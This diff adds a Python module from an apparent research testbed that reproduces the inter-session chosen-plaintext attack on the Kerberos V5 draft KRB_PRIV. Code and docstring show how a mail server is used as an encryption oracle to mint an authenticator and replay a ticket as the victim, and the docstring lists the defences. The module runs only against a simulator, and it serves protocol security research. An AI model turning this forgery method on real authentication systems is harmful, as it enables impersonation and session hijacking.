@@ -1,0 +1,202 @@
+"""The inter-session chosen-plaintext attack on KRB_PRIV.
+
+    "Since cipher-block chaining has the property that prefixes of
+    encryptions are encryptions of prefixes, if DATA has the form
+    (AUTHENTICATOR, CHECKSUM, REMAINDER) then a prefix of the encryption
+    of X with the session key is the encryption of (AUTHENTICATOR,
+    CHECKSUM), and can be used to spoof an entire session with the
+    server.  ...  Mail and file servers are examples of servers
+    susceptible to such attacks."
+
+The attack, concretely:
+
+1. The victim opens a mail session; the adversary records the AP_REQ
+   (the sealed ticket travels in the clear).
+2. The attacker — any other legitimate user — mails the victim a crafted
+   body: the exact plaintext interior of a *sealed authenticator* for
+   the victim (length field, authenticator encoding with a timestamp of
+   the attacker's choosing, matching checksum), zero-padded to a block
+   boundary.  Every byte is attacker-computable because the Draft's
+   seal checksum is unkeyed and does not cover the confounder.
+3. The victim fetches the mail.  The server returns it through the
+   KRB_PRIV channel — encrypting attacker-chosen plaintext under the
+   victim's multi-session key, with the Draft layout placing DATA right
+   after the confounder block.
+4. The adversary cuts the recorded ciphertext at the crafted boundary.
+   The cut *is* a valid ``{Ac}Kc,s`` — a freshly-timestamped
+   authenticator the attacker never had the key to make.
+5. Replay the old sealed ticket with the minted authenticator: the
+   server opens a new session for the victim.  Note what this defeats:
+   the replay cache (the timestamp is fresh) and the stale-window check.
+
+What stops it (benchmark E9): the V4 KRB_PRIV layout (leading length
+field breaks the cut), a *keyed* seal checksum, true session keys
+(rec. e — the oracle encrypts under a key authenticators are not
+accepted under), and challenge/response (rec. a — no authenticator to
+mint).
+"""
+
+from __future__ import annotations
+
+from typing import Optional
+
+from repro.attacks.base import AttackResult
+from repro.crypto import checksum as ck
+from repro.crypto.checksum import ChecksumType
+from repro.kerberos.config import ProtocolConfig
+from repro.kerberos.messages import AP_REQ, unframe
+from repro.kerberos.principal import Principal
+from repro.kerberos.tickets import Authenticator
+from repro.sim.network import Endpoint
+from repro.testbed import Testbed
+
+__all__ = ["craft_authenticator_plaintext", "mint_authenticator_via_mail"]
+
+_BLOCK = 8
+
+
+def craft_authenticator_plaintext(
+    config: ProtocolConfig,
+    victim: Principal,
+    victim_address: str,
+    timestamp: int,
+    sealed_ticket: bytes,
+) -> Optional[bytes]:
+    """Build the mail body whose encryption is a sealed authenticator.
+
+    Returns ``None`` when the configuration makes the bytes
+    uncomputable (keyed seal checksum).
+    """
+    spec = ck.spec_for(config.seal_checksum)
+    if spec.keyed:
+        return None  # the attacker cannot compute the internal checksum
+
+    ticket_checksum = b""
+    if config.authenticator_ticket_checksum:
+        # Unkeyed digest over public bytes: the attacker computes it too.
+        ticket_checksum = ck.compute(ChecksumType.MD4, sealed_ticket)
+
+    authenticator = Authenticator(
+        client=victim,
+        address=victim_address,
+        timestamp=config.round_timestamp(timestamp),
+        ticket_checksum=ticket_checksum,
+    )
+    encoded = authenticator.encode(config)
+    body = len(encoded).to_bytes(4, "big") + encoded
+    digest = spec.compute(body, b"")
+    crafted = body + digest
+    if len(crafted) % _BLOCK:
+        crafted += bytes(_BLOCK - len(crafted) % _BLOCK)
+    return crafted
+
+
+def mint_authenticator_via_mail(
+    bed: Testbed,
+    mail_server,
+    victim_user: str,
+    victim_password: str,
+    attacker_user: str,
+    attacker_password: str,
+    victim_host,
+    attacker_host,
+) -> AttackResult:
+    """Run the full oracle attack against a mail deployment."""
+    config = bed.config
+
+    # --- victim opens a mail session (adversary watching) ----------------
+    victim_outcome = bed.login(victim_user, victim_password, victim_host)
+    victim_cred = victim_outcome.client.get_service_ticket(mail_server.principal)
+    victim_session = victim_outcome.client.ap_exchange(
+        victim_cred, bed.endpoint(mail_server)
+    )
+
+    # The sealed ticket, lifted from the recorded AP_REQ.
+    ap_requests = bed.adversary.recorded(
+        service=mail_server.principal.name, direction="request"
+    )
+    if not ap_requests:
+        return AttackResult("mint-authenticator", False, "no AP_REQ recorded")
+    try:
+        captured = config.codec.decode(AP_REQ, ap_requests[-1].payload)
+    except Exception as exc:
+        return AttackResult("mint-authenticator", False, f"AP_REQ parse: {exc}")
+    sealed_ticket = captured["ticket"]
+
+    # --- attacker mails the crafted body ---------------------------------
+    crafted = craft_authenticator_plaintext(
+        config,
+        Principal(victim_user, "", bed.realm.name),
+        victim_host.address,
+        timestamp=bed.clock.now() + 10_000,  # a beat into the future
+        sealed_ticket=sealed_ticket,
+    )
+    if crafted is None:
+        return AttackResult(
+            "mint-authenticator", False,
+            "seal checksum is keyed; attacker cannot compute the interior",
+        )
+
+    attacker_outcome = bed.login(attacker_user, attacker_password, attacker_host)
+    attacker_cred = attacker_outcome.client.get_service_ticket(
+        mail_server.principal
+    )
+    attacker_session = attacker_outcome.client.ap_exchange(
+        attacker_cred, bed.endpoint(mail_server)
+    )
+    attacker_session.call(b"SEND " + victim_user.encode() + b" " + crafted)
+
+    # --- victim fetches; the adversary records the oracle output ----------
+    before = len(bed.adversary.recorded(
+        service=mail_server.principal.name + "-data", direction="response"
+    ))
+    fetched = victim_session.call(b"FETCH")
+    if fetched != crafted:
+        return AttackResult(
+            "mint-authenticator", False,
+            "oracle returned unexpected bytes (mailbox ordering?)",
+        )
+    responses = bed.adversary.recorded(
+        service=mail_server.principal.name + "-data", direction="response"
+    )
+    oracle_wire = responses[before:][0].payload
+    is_error, ciphertext = unframe(config, oracle_wire)
+    if is_error:
+        return AttackResult("mint-authenticator", False, "oracle errored")
+
+    # --- the cut -----------------------------------------------------------
+    if config.krb_priv_layout != "v5draft":
+        # With the V4 layout a leading length(DATA) sits where the seal's
+        # own length must be; no cut parses.  Demonstrate by trying the
+        # best available alignment anyway.
+        prefix_len = (4 + len(crafted) + _BLOCK - 1) // _BLOCK * _BLOCK
+        minted = ciphertext[:prefix_len]
+    else:
+        confounder = _BLOCK if config.use_confounder else 0
+        minted = ciphertext[:confounder + len(crafted)]
+
+    # --- replay ticket + minted authenticator ------------------------------
+    accepted_before = mail_server.accepted
+    forged_request = config.codec.encode(AP_REQ, {
+        "ticket": sealed_ticket,
+        "authenticator": minted,
+        "options": 0,
+    })
+    bed.network.inject(
+        victim_host.address,
+        Endpoint(mail_server.host.address, mail_server.principal.name),
+        forged_request,
+    )
+    succeeded = mail_server.accepted > accepted_before
+    return AttackResult(
+        "mint-authenticator",
+        succeeded,
+        "minted a fresh authenticator from the encryption oracle; "
+        "server opened a session for the victim"
+        if succeeded else
+        f"server rejected the cut ({mail_server.rejection_reasons[-1:]})",
+        evidence={
+            "crafted_bytes": len(crafted),
+            "replay_cache_defeated": succeeded and config.replay_cache,
+        },
+    )
